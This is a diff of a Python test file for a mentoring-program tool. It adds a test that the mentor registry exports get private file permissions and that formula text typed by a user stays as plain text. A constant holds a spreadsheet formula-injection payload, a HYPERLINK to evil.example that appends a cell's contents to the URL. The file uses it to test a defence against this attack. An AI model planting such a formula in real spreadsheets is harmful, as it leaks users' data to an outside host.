@@ -16,7 +16,13 @@ from mentordesk.cli import main
 from mentordesk.core.errors import MentorDeskError
 from mentordesk.core.private_files import write_private
 from mentordesk.core.storage.database import Database
-from tests.factories import make_cohort, make_event, make_pairing, make_program
+from tests.factories import (
+    make_application,
+    make_cohort,
+    make_event,
+    make_pairing,
+    make_program,
+)
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the agenda")'
 
@@ -116,3 +122,20 @@ def test_formula_cells_stay_text_in_the_summary_csv_and_xlsx(
     assert not [c.coordinate for c in texts if c.data_type == "f"]
     assert HOSTILE in [c.value for c in texts]  # exactly what the committee typed
     assert "+Case Management Society" in [c.value for c in texts]
+
+
+def test_the_mentor_registry_is_private_and_a_typed_request_stays_text(
+    db: Database, db_path: Path, tmp_path: Path, no_umask: None
+) -> None:
+    with db.transaction() as session:
+        cohort = make_cohort(session, name="2026 Registry", preset="credential")
+        make_application(session, cohort, "mentor", first_name="Ingrid", last_name="Sørensen")
+        make_application(session, cohort, "mentee", requested_mentor=HOSTILE)
+    out = tmp_path / "new folder" / "registry.xlsx"
+    base = ["--db", str(db_path), "registry", "--cohort", "2026 Registry"]
+    assert main([*base, "--out", str(out)]) == 0
+    assert main([*base, "--out", str(out.with_suffix(".pdf"))]) == 0
+    assert {mode(out), mode(out.with_suffix(".pdf")), mode(out.parent)} == {0o600, 0o700}
+    cells = [c for sheet in load_workbook(out).worksheets for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert HOSTILE in [c.value for c in cells]
